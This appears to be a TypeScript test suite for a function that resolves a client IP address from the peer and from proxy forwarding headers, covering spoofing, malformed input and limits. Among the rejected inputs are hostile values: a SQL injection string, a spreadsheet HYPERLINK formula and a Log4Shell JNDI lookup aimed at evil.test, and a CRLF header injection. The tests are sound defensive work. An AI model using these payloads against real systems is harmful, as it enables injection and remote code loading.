import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  type ClientAddressSettings,
  FORWARDING_HEADERS,
  resolveClient,
  UNKNOWN_REASONS,
  type UnknownReason,
} from '@/lib/policy/client-address';
import { classifyAddress, parseAddress, parseProxyList } from '@/lib/policy/networks';

type Case = {
  peer?: string;
  headers?: [name: string, value: string][];
  trusted?: string;
  header?: string;
  privateClients?: 'allow' | 'refuse';
  ipv6Prefix?: number;
};
type Result = { address: string | null; network: string | null; reason: UnknownReason | null };

const TRUSTED = '127.0.0.1,::1,10.0.0.0/8,fd00::/8';

function settingsOf(given: Case): ClientAddressSettings {
  const trustedProxies = parseProxyList(given.trusted ?? TRUSTED);
  if ('error' in trustedProxies) throw new Error(trustedProxies.error);
  return {
    trustedProxies,
    header: given.header ?? 'x-forwarded-for',
    privateClients: given.privateClients ?? 'refuse',
    ipv6Prefix: given.ipv6Prefix ?? 64,
  };
}

function resolve(given: Case) {
  return resolveClient(
    { peer: given.peer ?? '10.0.0.1', rawHeaders: (given.headers ?? []).flat() },
    settingsOf(given),
  );
}

const xff = (value: string): Case => ({ headers: [['X-Forwarded-For', value]] });
const realIp = (value: string): Case => ({
  header: 'x-real-ip',
  headers: [['X-Real-IP', value]],
});
const forwarded = (value: string): Case => ({
  header: 'forwarded',
  headers: [['Forwarded', value]],
});
const client = (address: string, network = `${address}/32`): Result => ({
  address,
  network,
  reason: null,
});
const unknown = (reason: UnknownReason): Result => ({ address: null, network: null, reason });

/** Row, guarantee, input, answer. Peer is the trusted proxy 10.0.0.1 unless said otherwise. */
const rows: [number, string, Case, Result][] = [
  // peer and header trust
  [1, 'Direct client, no proxy header', { peer: '203.0.113.9' }, client('203.0.113.9')],
  [
    2,
    'Untrusted peer sends the header: ignored, peer wins',
    { peer: '203.0.113.9', headers: [['X-Forwarded-For', '198.51.100.7']] },
    client('203.0.113.9'),
  ],
  [
    4,
    'All the well-known headers at once, direct to origin',
    {
      peer: '203.0.113.9',
      headers: [
        ['X-Real-IP', '198.51.100.7'],
        ['X-Client-IP', '198.51.100.7'],
        ['True-Client-IP', '198.51.100.7'],
        ['CF-Connecting-IP', '198.51.100.7'],
        ['Fastly-Client-IP', '198.51.100.7'],
        ['X-Cluster-Client-IP', '198.51.100.7'],
        ['X-Original-Forwarded-For', '198.51.100.7'],
        ['X-Originating-IP', '198.51.100.7'],
        ['X-Remote-IP', '198.51.100.7'],
        ['X-Azure-ClientIP', '198.51.100.7'],
        ['X-Envoy-External-Address', '198.51.100.7'],
        ['Forwarded', 'for=198.51.100.7'],
      ],
    },
    client('203.0.113.9'),
  ],
  [5, 'Normal case behind the proxy', xff('198.51.100.7'), client('198.51.100.7')],
  [
    7,
    'Proxy on IPv6 loopback',
    { peer: '::1', headers: [['X-Forwarded-For', '198.51.100.7']] },
    client('198.51.100.7'),
  ],
  [
    8,
    'Proxy on a ULA address',
    { peer: 'fd00::5', headers: [['X-Forwarded-For', '198.51.100.7']] },
    client('198.51.100.7'),
  ],
  [10, 'Header present and empty', xff(''), unknown('empty_header')],
  [11, 'Only blanks', xff(' \t '), unknown('empty_header')],
  [
    13,
    'Pass-through header from the client beside the real one (ALB passes X-Real-IP through)',
    {
      headers: [
        ['X-Real-IP', '1.1.1.1'],
        ['X-Forwarded-For', '198.51.100.7'],
      ],
    },
    client('198.51.100.7'),
  ],
  [
    14,
    "Same with True-Client-IP (this one fools Ory Kratos' ClientIP())",
    {
      headers: [
        ['True-Client-IP', '1.1.1.1'],
        ['X-Forwarded-For', '198.51.100.7'],
      ],
    },
    client('198.51.100.7'),
  ],
  [
    16,
    'Underscore spelling is another header',
    {
      headers: [
        ['X_Forwarded_For', '1.1.1.1'],
        ['X-Forwarded-For', '198.51.100.7'],
      ],
    },
    client('198.51.100.7'),
  ],
  [
    17,
    "a caller's own internal header is not read",
    {
      headers: [
        ['X-Verified-Client-Ip', '1.1.1.1'],
        ['X-Forwarded-For', '198.51.100.7'],
      ],
    },
    client('198.51.100.7'),
  ],
  [
    19,
    'Unix-socket peer with TRUSTED_PROXIES=unix',
    { peer: 'unix', trusted: 'unix', headers: [['X-Forwarded-For', '198.51.100.7']] },
    client('198.51.100.7'),
  ],
  [20, 'Unix-socket peer, no header', { peer: 'unix', trusted: 'unix' }, unknown('no_header')],
  [
    22,
    'forgotten TRUSTED_PROXIES behind a local proxy is no client',
    { peer: '127.0.0.1', trusted: '', headers: [['X-Forwarded-For', '198.51.100.7']] },
    unknown('proxy_not_configured'),
  ],
  [
    23,
    'Same with a container proxy, even when LAN clients are allowed',
    {
      peer: '172.17.0.1',
      trusted: '',
      privateClients: 'allow',
      headers: [['X-Forwarded-For', '198.51.100.7']],
    },
    unknown('proxy_not_configured'),
  ],
  [
    25,
    'a container gateway without a header, in mapped form',
    { peer: '::ffff:172.17.0.1', trusted: '' },
    unknown('private_address'),
  ],
  [
    26,
    'Bare TCP tunnel (ssh -R, socat, kubectl port-forward): all clients are loopback',
    { peer: '127.0.0.1', trusted: '' },
    unknown('loopback'),
  ],

  // which element of the list
  [28, 'Spoofed leftmost element', xff('1.1.1.1, 198.51.100.7'), client('198.51.100.7')],
  [
    29,
    'Several spoofed elements',
    xff('1.1.1.1,2.2.2.2,3.3.3.3,198.51.100.7'),
    client('198.51.100.7'),
  ],
  [
    31,
    'Trusted hops in mapped and ULA form are skipped',
    xff('1.1.1.1, 198.51.100.7, ::ffff:10.0.0.9, fd00::7'),
    client('198.51.100.7'),
  ],
  [32, 'only trusted addresses: no client is known', xff('10.0.0.9'), unknown('all_trusted')],
  [34, 'Whole chain trusted', xff('10.0.0.9, 10.0.0.8, ::1'), unknown('all_trusted')],
  [
    35,
    'an unlisted CDN edge is the client: elements left of it are counted for the health page',
    xff('198.51.100.7, 203.0.113.200'),
    client('203.0.113.200'),
  ],
  [
    37,
    'header twice, the proxy wrote the first: known limit, the proxy must overwrite or append last',
    {
      headers: [
        ['X-Forwarded-For', '198.51.100.7'],
        ['X-Forwarded-For', '1.1.1.1'],
      ],
    },
    client('1.1.1.1'),
  ],
  [
    38,
    'Mixed-case duplicates',
    {
      headers: [
        ['x-forwarded-for', '1.1.1.1'],
        ['X-FORWARDED-FOR', '198.51.100.7'],
      ],
    },
    client('198.51.100.7'),
  ],
  [
    40,
    'Empty element left of the chosen one does not matter',
    xff(',198.51.100.7'),
    client('198.51.100.7'),
  ],
  [41, 'Trailing comma', xff('198.51.100.7,'), unknown('empty_element')],
  [43, 'Only a comma', xff(','), unknown('empty_element')],
  [44, 'Only commas and blanks', xff(', , ,'), unknown('empty_element')],
  [46, 'Semicolon instead of comma', xff('1.1.1.1;198.51.100.7'), unknown('bad_address')],
  [
    47,
    'Garbage left of the chosen element is not read',
    xff('garbage, 198.51.100.7'),
    client('198.51.100.7'),
  ],
  [49, 'unknown at the right end', xff('198.51.100.7, unknown'), unknown('bad_address')],
  [50, 'Obfuscated name at the right end', xff('198.51.100.7, _hidden'), unknown('bad_address')],

  // spelling of one IPv4 address
  [52, 'Blanks and tabs round it', xff('\t198.51.100.7 '), client('198.51.100.7')],
  [53, 'Port (Azure App Gateway style)', xff('198.51.100.7:443'), client('198.51.100.7')],
  [55, 'Port too large', xff('198.51.100.7:65536'), unknown('bad_port')],
  [56, 'Colon without port', xff('198.51.100.7:'), unknown('bad_address')],
  [58, 'Two ports', xff('198.51.100.7:80:90'), unknown('bad_address')],
  [59, 'IPv4 in brackets', xff('[198.51.100.7]'), unknown('bad_address')],
  [61, 'Quoted (that is Forwarded syntax)', xff('"198.51.100.7"'), unknown('bad_address')],
  [62, 'Leading zero (CVE-2021-28918 family)', xff('198.51.100.07'), unknown('bad_address')],
  [
    64,
    'Octal: ipaddr.js reads 10.1.2.3, Postgres 12.1.2.3',
    xff('012.1.2.3'),
    unknown('bad_address'),
  ],
  [65, 'Hex part', xff('0x7f.0.0.1'), unknown('bad_address')],
  [67, 'One decimal number', xff('3325256711'), unknown('bad_address')],
  [68, 'One octal number (ip package bypass)', xff('017700000001'), unknown('bad_address')],
  [70, 'Three parts (ipaddr.js: 198.51.0.7)', xff('198.51.7'), unknown('bad_address')],
  [71, 'Trailing dot', xff('198.51.100.7.'), unknown('bad_address')],
  [73, 'Part > 255', xff('198.51.100.256'), unknown('bad_address')],
  [74, 'Negative part', xff('198.51.100.-7'), unknown('bad_address')],
  [76, 'CIDR (Postgres inet would take it)', xff('198.51.100.7/32'), unknown('bad_address')],
  [
    77,
    'Network (would match a whole range in a careless query)',
    xff('198.51.100.7/24'),
    unknown('bad_address'),
  ],
  [
    79,
    'Full-width digits (WHATWG URL turns them into the real address)',
    xff('１９８.５１.１００.７'),
    unknown('bad_address'),
  ],
  [80, 'Ideographic full stop', xff('198\u300251.100.7'), unknown('bad_address')],
  [
    82,
    'CRLF (unit level; Node answers 400 on the wire)',
    xff('198.51.100.7\r\nX-Evil: 1'),
    unknown('bad_address'),
  ],
  [83, 'Zero-width space', xff('198.51.100.7\u200b'), unknown('bad_address')],
  [
    85,
    'DNS name that resolves to an address: never resolve',
    xff('198.51.100.7.nip.io'),
    unknown('bad_address'),
  ],
  [86, 'SQL in the header', xff("198.51.100.7' OR '1'='1"), unknown('bad_address')],
  [
    88,
    'Spreadsheet formula: harmless in the CSV export',
    xff('=HYPERLINK("http://evil.test")'),
    unknown('bad_address'),
  ],
  [
    89,
    'Log4Shell string: no look-ups in log shipping',
    xff(`\${jndi:ldap://evil.test/a}`),
    unknown('bad_address'),
  ],

  // valid, but never a client
  [91, '"This network"', xff('0.1.2.3'), unknown('not_a_client_address')],
  [92, 'Loopback not in the trusted list', xff('127.0.0.2'), unknown('loopback')],
  [94, 'Multicast', xff('224.0.0.1'), unknown('not_a_client_address')],
  [95, 'Broadcast', xff('255.255.255.255'), unknown('not_a_client_address')],
  [97, 'Unspecified IPv6', xff('::'), unknown('not_a_client_address')],
  [
    98,
    'IPv4-compatible: ipaddr.js reads 198.51.100.7',
    xff('::198.51.100.7'),
    unknown('not_a_client_address'),
  ],
  [100, 'Link-local', xff('fe80::1'), unknown('not_a_client_address')],
  [101, 'Link-local with zone', xff('fe80::1%eth0'), unknown('bad_address')],
  [103, 'Link-local peer on the socket', { peer: 'fe80::1%eth0' }, unknown('bad_address')],
  [
    104,
    'Teredo: hides an IPv4 chosen by the sender',
    xff('2001:0:4136:e378:8000:63bf:3fff:fdd2'),
    unknown('not_a_client_address'),
  ],
  [106, 'Local-use NAT64', xff('64:ff9b:1::1'), unknown('not_a_client_address')],

  // IPv6 spelling, mapped forms and the /64
  [107, 'Plain', xff('2001:db8:1:2:3:4:5:6'), client('2001:db8:1:2:3:4:5:6', '2001:db8:1:2::/64')],
  [109, 'Brackets', xff('[2001:db8:1:2::1]'), client('2001:db8:1:2::1', '2001:db8:1:2::/64')],
  [
    110,
    'Brackets and port',
    xff('[2001:db8:1:2::1]:443'),
    client('2001:db8:1:2::1', '2001:db8:1:2::/64'),
  ],
  [112, 'Port without colon', xff('[2001:db8:1:2::1]443'), unknown('bad_address')],
  [113, 'Unclosed bracket', xff('[2001:db8:1:2::1'), unknown('bad_address')],
  [115, 'Double brackets', xff('[[2001:db8::1]]'), unknown('bad_address')],
  [116, 'Two ::', xff('2001:db8::1::2'), unknown('bad_address')],
  [118, 'Nine groups', xff('2001:db8:1:2:3:4:5:6:7'), unknown('bad_address')],
  [119, 'Group too long', xff('2001:db8::12345'), unknown('bad_address')],
  [
    121,
    'Top of the /64: same key',
    xff('2001:db8:1:2:ffff:ffff:ffff:ffff'),
    client('2001:db8:1:2:ffff:ffff:ffff:ffff', '2001:db8:1:2::/64'),
  ],
  [
    122,
    'Next /64: other key',
    xff('2001:db8:1:3::'),
    client('2001:db8:1:3::', '2001:db8:1:3::/64'),
  ],
  [
    124,
    'IPV6_PREFIX=128',
    { ipv6Prefix: 128, headers: [['X-Forwarded-For', '2001:db8:1:2::1']] },
    client('2001:db8:1:2::1', '2001:db8:1:2::1/128'),
  ],
  [125, 'Mapped: same key as the IPv4 form', xff('::ffff:198.51.100.7'), client('198.51.100.7')],
  [127, 'Mapped, hex', xff('::ffff:c633:6407'), client('198.51.100.7')],
  [128, 'Mapped, written out', xff('0:0:0:0:0:ffff:c633:6407'), client('198.51.100.7')],
  [
    130,
    'two mapped addresses do not share a network',
    xff('::ffff:203.0.113.50'),
    client('203.0.113.50'),
  ],
  [
    131,
    'SIIT looks like mapped, and is no client',
    xff('::ffff:0:198.51.100.7'),
    unknown('not_a_client_address'),
  ],
  [133, 'Mapped loopback', xff('::ffff:127.0.0.1'), unknown('all_trusted')],
  [134, 'Mapped unspecified', xff('::ffff:0.0.0.0'), unknown('not_a_client_address')],
  [136, 'NAT64 well-known prefix', xff('64:ff9b::198.51.100.7'), client('198.51.100.7')],
  [137, 'NAT64 that hides a trusted address', xff('64:ff9b::10.0.0.9'), unknown('all_trusted')],
  [
    139,
    '6to4: kept as IPv6',
    xff('2002:c633:6407::1'),
    client('2002:c633:6407::1', '2002:c633:6407::/64'),
  ],
  [
    140,
    'Mapped peer on a dual-stack socket',
    { peer: '::ffff:198.51.100.7' },
    client('198.51.100.7'),
  ],

  // private ranges
  [142, 'a LAN client is refused by default', xff('192.168.1.5'), unknown('private_address')],
  [
    143,
    'Self-hosted on a LAN, switched on',
    { privateClients: 'allow', headers: [['X-Forwarded-For', '192.168.1.5']] },
    client('192.168.1.5'),
  ],
  [145, 'carrier-grade NAT is refused by default', xff('100.64.0.9'), unknown('private_address')],
  [146, 'Just outside 172.16.0.0/12', xff('172.32.0.1'), client('172.32.0.1')],
  [
    148,
    'ULA, switched on',
    { privateClients: 'allow', headers: [['X-Forwarded-For', 'fc00::9']] },
    client('fc00::9', 'fc00::/64'),
  ],
  [149, 'Mapped private', xff('::ffff:192.168.1.5'), unknown('private_address')],

  // size limits
  [151, 'At the hop limit', xff(new Array(50).fill('1.1.1.1').join(',')), client('1.1.1.1')],
  [
    152,
    'Over the hop limit',
    xff(new Array(51).fill('1.1.1.1').join(',')),
    unknown('too_many_hops'),
  ],
  [154, 'Comma bomb', xff(','.repeat(2_048)), unknown('too_many_hops')],
  [
    155,
    'At the header-count limit (200)',
    { headers: [...new Array(199).fill(['a', '1']), ['X-Forwarded-For', '198.51.100.7']] },
    client('198.51.100.7'),
  ],

  // a header that holds one address
  [157, 'Normal', realIp('198.51.100.7'), client('198.51.100.7')],
  [
    158,
    'Twice, even when equal',
    {
      header: 'x-real-ip',
      headers: [
        ['X-Real-IP', '198.51.100.7'],
        ['X-Real-IP', '198.51.100.7'],
      ],
    },
    unknown('not_single'),
  ],
  [160, 'Not an address', realIp('unknown'), unknown('bad_address')],
  [
    161,
    'Other header only',
    { header: 'x-real-ip', headers: [['X-Forwarded-For', '198.51.100.7']] },
    unknown('no_header'),
  ],

  // Forwarded, RFC 7239
  [
    163,
    'Names are case-insensitive',
    forwarded('For=198.51.100.7;PROTO=https;by=10.0.0.1'),
    client('198.51.100.7'),
  ],
  [164, 'Quoted with port', forwarded('for="198.51.100.7:443"'), client('198.51.100.7')],
  [
    166,
    'IPv6',
    forwarded('for="[2001:db8:1:2::1]"'),
    client('2001:db8:1:2::1', '2001:db8:1:2::/64'),
  ],
  [
    167,
    'IPv6 with port',
    forwarded('for="[2001:db8:1:2::1]:443"'),
    client('2001:db8:1:2::1', '2001:db8:1:2::/64'),
  ],
  [169, 'IPv6 without brackets', forwarded('for="2001:db8:1:2::1"'), unknown('bad_address')],
  [170, 'IPv4 in brackets', forwarded('for="[198.51.100.7]"'), unknown('bad_address')],
  [172, 'Spoofed left element', forwarded('for=1.1.1.1, for=198.51.100.7'), client('198.51.100.7')],
  [173, 'Trusted hop skipped', forwarded('for=198.51.100.7, for=10.0.0.9'), client('198.51.100.7')],
  [175, 'unknown', forwarded('for=unknown'), unknown('hidden_node')],
  [176, 'unknown with port', forwarded('for="unknown:443"'), unknown('hidden_node')],
  [178, 'Obfuscated node, quoted', forwarded('for="_gazonk"'), unknown('hidden_node')],
  [179, 'Empty quoted', forwarded('for=""'), unknown('hidden_node')],
  [181, 'No value', forwarded('for'), unknown('bad_forwarded')],
  [182, 'Not a pair', forwarded('198.51.100.7'), unknown('bad_forwarded')],
  [184, 'Last element without for', forwarded('for=198.51.100.7, proto=https'), unknown('no_for')],
  [185, 'Blanks round =', forwarded('for = 198.51.100.7'), unknown('bad_forwarded')],
  [187, 'Trailing comma', forwarded('for=198.51.100.7,'), unknown('bad_forwarded')],
  [
    188,
    "Unmatched quote swallows the proxy's element",
    forwarded('for="1.1.1.1, for=198.51.100.7'),
    unknown('bad_forwarded'),
  ],
  [
    190,
    'Comma, semicolon and a fake for inside quotes',
    forwarded('host="a,b;for=1.1.1.1";for=198.51.100.7'),
    client('198.51.100.7'),
  ],
  [
    191,
    'Escaped character inside quotes',
    forwarded('for="198.51.100.\\7"'),
    client('198.51.100.7'),
  ],
  [193, 'Single quotes', forwarded("for='198.51.100.7'"), unknown('bad_address')],
  [
    194,
    'Zone in by is not our business',
    forwarded('for=198.51.100.7;by="[fe80::1%eth0]"'),
    client('198.51.100.7'),
  ],
];

/** The same manner, for what no row has. */
const more: [string, Case, Result][] = [
  [
    'both families of one proxy list may be mapped peers',
    { ...xff('198.51.100.7'), peer: '::ffff:10.0.0.1' },
    client('198.51.100.7'),
  ],
  [
    'over 2,048 characters nothing is read',
    xff(`${' '.repeat(2_040)}198.51.100.7`),
    unknown('header_too_long'),
  ],
  [
    'several lines count together against 2,048 characters',
    {
      headers: [
        ['X-Forwarded-For', 'a'.repeat(2_000)],
        ['X-Forwarded-For', `${' '.repeat(50)}198.51.100.7`],
      ],
    },
    unknown('header_too_long'),
  ],
  [
    'an empty line after the good one is an empty hop',
    {
      headers: [
        ['X-Forwarded-For', '198.51.100.7'],
        ['X-Forwarded-For', ''],
      ],
    },
    unknown('empty_element'),
  ],
  ['a port that is no number', xff('198.51.100.7:http'), unknown('bad_address')],
  ['a port of six digits', xff('[2001:db8::1]:000443'), unknown('bad_port')],
  ['a no-break space is no blank', xff('\u00a0198.51.100.7'), unknown('bad_address')],
  ['Class E is never a client', xff('240.0.0.1'), unknown('not_a_client_address')],
  ['IPv4 link-local is never a client', xff('169.254.169.254'), unknown('not_a_client_address')],
  ['IPv6 multicast is never a client', xff('ff02::1'), unknown('not_a_client_address')],
  [
    'IPv6 loopback that is not listed',
    { ...xff('::1'), trusted: '10.0.0.0/8' },
    unknown('loopback'),
  ],
  [
    'a unique-local client, refused',
    { ...xff('fd12::1'), trusted: '10.0.0.0/8' },
    unknown('private_address'),
  ],
  ['CGNAT, switched on', { ...xff('100.64.0.9'), privateClients: 'allow' }, client('100.64.0.9')],
  [
    'loopback, switched on, no header',
    { peer: '127.0.0.66', trusted: '', privateClients: 'allow' },
    client('127.0.0.66'),
  ],
  [
    'IPV6_PREFIX=48',
    { ...xff('2001:db8:1:2::1'), ipv6Prefix: 48 },
    client('2001:db8:1:2::1', '2001:db8:1::/48'),
  ],
  [
    'IPV6_PREFIX=56 cuts inside a byte pair',
    { ...xff('2001:db8:1:12ff::1'), ipv6Prefix: 56 },
    client('2001:db8:1:12ff::1', '2001:db8:1:1200::/56'),
  ],
  ['a Unix socket that is not trusted is nobody', { peer: 'unix' }, unknown('no_peer')],
  [
    'a Unix socket that is not trusted and forwards is a forgotten proxy',
    { ...xff('198.51.100.7'), peer: 'unix' },
    unknown('proxy_not_configured'),
  ],
  [
    'an unlisted private peer with any known forwarding header is a forgotten proxy',
    {
      peer: '192.168.0.2',
      privateClients: 'allow',
      headers: [['CF-Connecting-IP', '198.51.100.7']],
    },
    unknown('proxy_not_configured'),
  ],
  [
    'a configured header of its own name betrays a forgotten proxy too',
    {
      peer: '192.168.0.2',
      privateClients: 'allow',
      header: 'x-edge-client',
      headers: [['X-Edge-Client', '198.51.100.7']],
    },
    unknown('proxy_not_configured'),
  ],
  [
    'a list in a header that holds one address',
    realIp('198.51.100.7, 1.1.1.1'),
    unknown('not_single'),
  ],
  ['an empty header that holds one address', realIp(''), unknown('empty_header')],
  ['a listed proxy in a header that holds one address', realIp('10.0.0.9'), unknown('all_trusted')],
  ['Forwarded: an empty header', forwarded(''), unknown('empty_header')],
  [
    'Forwarded: a blank after the semicolon is not the grammar',
    forwarded('for=198.51.100.7; proto=https'),
    unknown('bad_forwarded'),
  ],
  [
    'Forwarded: for twice in one element',
    forwarded('for=1.1.1.1;for=198.51.100.7'),
    unknown('bad_forwarded'),
  ],
  ['Forwarded: unquoted IPv6', forwarded('for=[2001:db8::1]'), unknown('bad_forwarded')],
  [
    'Forwarded: an obfuscated port is still an address',
    forwarded('for="198.51.100.7:_p1"'),
    client('198.51.100.7'),
  ],
  ['Forwarded: a port too large', forwarded('for="198.51.100.7:65536"'), unknown('bad_port')],
  ['Forwarded: only semicolons', forwarded(';'), unknown('bad_forwarded')],
  [
    'Forwarded: mapped addresses are unwrapped',
    forwarded('for="[::ffff:198.51.100.7]:80"'),
    client('198.51.100.7'),
  ],
  [
    'Forwarded: a left quote cannot turn the proxy’s quotes inside out',
    {
      header: 'forwarded',
      headers: [
        ['Forwarded', 'for=1.1.1.1;x="'],
        ['Forwarded', 'for="[2001:db8::1]"'],
      ],
    },
    unknown('bad_forwarded'),
  ],
  [
    'Forwarded: an escaped quote at the end of a left line',
    {
      header: 'forwarded',
      headers: [
        ['Forwarded', 'for=1.1.1.1;x="\\'],
        ['Forwarded', 'for="[2001:db8::1]";by="[fd00::1]"'],
      ],
    },
    unknown('bad_forwarded'),
  ],
  [
    'Forwarded: an escaped quote doesn’t end a quoted string',
    forwarded('host="a\\",b";for=198.51.100.7'),
    client('198.51.100.7'),
  ],
  [
    'Forwarded: garbage left of the chosen element is not read',
    forwarded('gar bage, for=198.51.100.7'),
    client('198.51.100.7'),
  ],
];

function expectResult(given: Case, wanted: Result) {
  const { address, network, reason } = resolve(given);
  expect({ address, network, reason }).toEqual(wanted);
}

describe('the client address', () => {
  it.each(rows)('IP-%i %s', (_row, _title, given, wanted) => expectResult(given, wanted));
  it.each(more)('%s', (_title, given, wanted) => expectResult(given, wanted));

  it('no peer at all is unknown, whatever is forwarded', () => {
    const answer = resolveClient(
      { peer: undefined, rawHeaders: ['X-Forwarded-For', '198.51.100.7'] },
      settingsOf({}),
    );
    expect(answer).toMatchObject({ address: null, reason: 'no_peer', forwardedByUnlisted: false });
  });

  it('every reason is reached by some case', () => {
    const reached = new Set(
      [...rows.map((row) => row[3]), ...more.map((row) => row[2])].map((result) => result.reason),
    );
    expect(UNKNOWN_REASONS.filter((reason) => !reached.has(reason))).toEqual([]);
  });
});

describe('what the answer tells beside the address', () => {
  it('IP-35 elements left of the chosen one are counted', () => {
    expect(resolve(xff('198.51.100.7, 203.0.113.200, 10.0.0.9'))).toMatchObject({
      address: '203.0.113.200',
      hops: ['198.51.100.7', '203.0.113.200', '10.0.0.9'],
      hopsLeft: 1,
      peer: '10.0.0.1',
      header: 'x-forwarded-for',
      forwardedByUnlisted: false,
    });
  });

  it('IP-22 a forgotten proxy is named, in the spelling to write into TRUSTED_PROXIES', () => {
    expect(resolve({ ...xff('198.51.100.7'), peer: '::ffff:172.17.0.1' })).toMatchObject({
      peer: '172.17.0.1',
      forwardedByUnlisted: true,
      hops: [],
    });
  });

  it('IP-2 an untrusted public peer’s header is neither shown nor held against it', () => {
    expect(resolve({ ...xff('198.51.100.7'), peer: '203.0.113.9' })).toMatchObject({
      hops: [],
      hopsLeft: 0,
      forwardedByUnlisted: false,
    });
  });
});

describe('properties', () => {
  /** `FUZZ_RUNS=1000000` for a long look. */
  const runs = { numRuns: Number(process.env.FUZZ_RUNS ?? 10_000) };
  const byte = fc.integer({ min: 0, max: 255 });
  const ipv4 = fc.tuple(byte, byte, byte, byte).map((parts) => parts.join('.'));
  const group = fc.oneof(fc.constant(0), fc.constant(0xffff), fc.integer({ min: 0, max: 0xffff }));
  const ipv6 = fc
    .oneof(
      fc.array(group, { minLength: 8, maxLength: 8 }),
      fc.array(group, { minLength: 7, maxLength: 7 }).map((rest) => [0x2001, ...rest]),
      fc
        .array(group, { minLength: 2, maxLength: 2 })
        .map((rest) => [0, 0, 0, 0, 0, 0xffff, ...rest]),
      fc
        .array(group, { minLength: 2, maxLength: 2 })
        .map((rest) => [0x64, 0xff9b, 0, 0, 0, 0, ...rest]),
    )
    .map((groups) => groups.map((value) => value.toString(16)).join(':'));
  const listed = fc.constantFrom(
    '127.0.0.1',
    '10.0.0.1',
    '10.255.0.9',
    '::1',
    'fd00::5',
    '::ffff:10.0.0.3',
  );
  const junk = fc.oneof(
    fc.string(),
    fc.constantFrom(
      '',
      ' ',
      'unknown',
      '_h',
      '"',
      '\\',
      ';',
      '=',
      'for=',
      '%',
      '[',
      ']',
      '1.2.3',
      '::',
      '2001:db8::1%1',
    ),
  );
  const anything = fc.oneof(
    ipv4,
    ipv6,
    listed,
    junk,
    ipv4.map((address) => `${address}:80`),
    ipv6.map((address) => `[${address}]:80`),
  );
  const headerName = fc.oneof(
    fc.constantFrom(...FORWARDING_HEADERS, 'X-Forwarded-For', 'FORWARDED', 'Host', '__proto__'),
    fc.string(),
  );
  const headerList = fc.array(
    fc.tuple(
      headerName,
      fc.array(anything).map((parts) => parts.join(',')),
    ),
    { maxLength: 6 },
  );
  const header = fc.constantFrom('x-forwarded-for', 'forwarded', 'x-real-ip');
  const privateClients = fc.constantFrom('allow' as const, 'refuse' as const);
  const ipv6Prefix = fc.integer({ min: 48, max: 128 });
  const asForwarded = (address: string) =>
    address.includes(':') ? `for="[${address}]"` : `for=${address}`;

  it('no header sent by an untrusted public peer changes the result', () => {
    fc.assert(
      fc.property(fc.oneof(ipv4, ipv6), headerList, header, (peer, headers, name) => {
        const address = parseAddress(peer);
        fc.pre(address !== null && classifyAddress(address) === 'public');
        expect(resolve({ peer, headers, header: name })).toEqual(resolve({ peer, header: name }));
      }),
      runs,
    );
  });

  it('for any chain the result is never a trusted hop', () => {
    const { trustedProxies } = settingsOf({});
    fc.assert(
      fc.property(
        fc.array(anything, { maxLength: 8 }),
        header,
        privateClients,
        (chain, name, allow) => {
          const value = name === 'forwarded' ? chain.map(asForwarded).join(', ') : chain.join(', ');
          const { address } = resolve({
            headers: [[name, value]],
            header: name,
            privateClients: allow,
          });
          const parsed = address === null ? null : parseAddress(address);
          expect(parsed !== null && trustedProxies.has(parsed)).toBe(false);
        },
      ),
      runs,
    );
  });

  it('nothing is thrown, and a result is either an address with its network or a reason', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.constant(undefined), fc.constant('unix'), anything),
        fc.oneof(
          headerList.map((headers) => headers.flat()),
          fc.array(fc.string()),
        ),
        header,
        privateClients,
        ipv6Prefix,
        (peer, rawHeaders, name, allow, prefix) => {
          const settings = settingsOf({ header: name, privateClients: allow, ipv6Prefix: prefix });
          const answer = resolveClient({ peer, rawHeaders }, settings);
          expect(answer.address === null).toBe(answer.network === null);
          expect(answer.address === null).toBe(answer.reason !== null);
        },
      ),
      runs,
    );
  });

  it('a result is canonical, without a zone, and never in mapped or NAT64 form', () => {
    fc.assert(
      fc.property(fc.oneof(ipv4, ipv6), header, (address, name) => {
        const value = name === 'forwarded' ? asForwarded(address) : address;
        const answer = resolve({ headers: [[name, value]], header: name, privateClients: 'allow' });
        fc.pre(answer.address !== null);
        expect(parseAddress(answer.address ?? '')?.text).toBe(answer.address);
        expect(answer.address).not.toMatch(/%|^::ffff:|^64:ff9b::/);
      }),
      runs,
    );
  });

  it('elements put to the left of an accepted list change nothing', () => {
    fc.assert(
      fc.property(
        fc.array(anything, { maxLength: 6 }),
        ipv4,
        fc.array(listed, { maxLength: 3 }),
        (left, address, right) => {
          const accepted = [address, ...right].join(', ');
          const short = resolve(xff(accepted));
          const long = resolve(xff([...left, accepted].join(',')));
          fc.pre(short.address !== null && long.reason !== 'too_many_hops');
          expect([long.address, long.network]).toEqual([short.address, short.network]);
        },
      ),
      runs,
    );
  });

  it('Forwarded: whatever a caller sends first, he is never taken for another', () => {
    const fragment = fc.constantFrom(
      '"',
      '\\',
      ',',
      ';',
      '=',
      'for',
      '1.1.1.1',
      '[2001:db8:9::9]',
      ' ',
      'x',
      'for=1.1.1.1',
      'for="',
    );
    const callersLine = fc.array(fragment, { maxLength: 14 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(
        callersLine,
        fc.oneof(fc.constant('198.51.100.7'), fc.constant('2001:db8::7')),
        fc.boolean(),
        (line, address, oneLine) => {
          const proxys = `${asForwarded(address)};by="[fd00::1]"`;
          const headers: [string, string][] = oneLine
            ? [['Forwarded', `${line}, ${proxys}`]]
            : [
                ['Forwarded', line],
                ['Forwarded', proxys],
              ];
          expect([address, null]).toContain(resolve({ headers, header: 'forwarded' }).address);
        },
      ),
      runs,
    );
  });

  it('the network of a forwarded address is that of the same address as a direct peer', () => {
    fc.assert(
      fc.property(fc.oneof(ipv4, ipv6), privateClients, ipv6Prefix, (address, allow, prefix) => {
        const options = { privateClients: allow, ipv6Prefix: prefix };
        const through = resolve({ ...xff(address), ...options });
        fc.pre(through.reason !== 'all_trusted');
        const direct = resolve({ peer: address, ...options });
        expect([through.address, through.network, through.reason]).toEqual([
          direct.address,
          direct.network,
          direct.reason,
        ]);
      }),
      runs,
    );
  });
});
